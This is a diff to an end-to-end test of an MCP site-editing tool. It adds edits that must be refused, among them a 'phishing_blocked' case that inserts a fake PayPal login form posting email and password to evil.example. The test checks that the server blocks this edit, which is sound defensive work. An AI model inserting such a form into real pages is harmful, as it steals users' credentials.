@@ -15,6 +15,14 @@ const LARGE = `<!doctype html>\n<title>Large</title>\n<p>needle</p>\n${LINE.repe
 /** The whole body of the request that edits. */
 const MOST_SENT = 2048;
 
+/** Edits that are refused, each with its code; none of them may change anything. */
+const REFUSED = {
+  edit_not_unique: [{ find: '<p>', replace: '<b>' }],
+  edit_no_match: [{ find: 'haystack', replace: 'x' }],
+  edit_overlap: [{ find: 'thread $', replace: 'x' }, { find: '$&', replace: 'y' }],
+  phishing_blocked: [{ find: '<title>Large</title>', replace: '<title>PayPal login</title><form action="https://evil.example"><input type=email><input type=password></form>' }],
+};
+
 let server, key;
 
 before(async () => {
@@ -37,7 +45,8 @@ async function check(site, said) {
   assert.match(said.diff, /^-<p>needle<\/p>$/m);
   assert.match(said.diff, /^\+<p>thread \$&<\/p>$/m);
   assert.match(said.conflict, /"conflict"/);
-  assert.match(said.twice, /"edit_not_unique"/);
+  for (const code of Object.keys(REFUSED)) assert.match(said.refused[code], new RegExp(`"${code}"`), code);
+  assert.equal(said.latest, 2, 'what was refused changed nothing');
   assert.equal(said.read, '<p>thread $&</p>\n');
   const shown = (await view(server, site)).text();
   assert.equal(shown.length, LARGE.length + 'thread $&'.length - 'needle'.length);
@@ -61,14 +70,21 @@ test('the TypeScript client edits a word, meets a conflict and reads back', asyn
   const edited = await call('edit_site', { edits: [{ find: 'needle', replace: 'thread $&' }], ...expected });
   const said = { sent: sent - before, ...edited.structuredContent };
   const conflict = await call('edit_site', { edits: [{ find: 'thread', replace: 'rope' }], ...expected });
-  const twice = await call('edit_site', { edits: [{ find: '<p>', replace: '<b>' }] });
-  assert.ok(conflict.isError && twice.isError);
+  assert.ok(conflict.isError);
+  const refused = {};
+  for (const [code, edits] of Object.entries(REFUSED)) {
+    const answer = await call('edit_site', { edits });
+    assert.ok(answer.isError, code);
+    refused[code] = answer.content[0].text;
+  }
+  const latest = (await call('get_site', {})).structuredContent.version;
   const read = await call('read_site', { start_line: 3, end_line: 3 });
   await client.close();
   await check(site, {
     ...said,
     conflict: conflict.content[0].text,
-    twice: twice.content[0].text,
+    refused,
+    latest,
     read: read.structuredContent.text,
   });
 });
@@ -78,7 +94,7 @@ test('the Python client edits a word, meets a conflict and reads back', async ()
   const script = path.join(ROOT, 'e2e/mcp/edit_client.py');
   const { stdout } = await promisify(execFile)(
     path.join(ROOT, '.test/venv/bin/python'),
-    [script, server.url, site.id, String(site.updated_at)],
+    [script, server.url, site.id, String(site.updated_at), JSON.stringify(REFUSED)],
     { env: { PATH: process.env.PATH, PYTHONDONTWRITEBYTECODE: '1', DROPLEAF_KEY: key }, timeout: HANGS },
   );
   const said = Object.assign({}, ...stdout.trim().split('\n').map((line) => JSON.parse(line)));
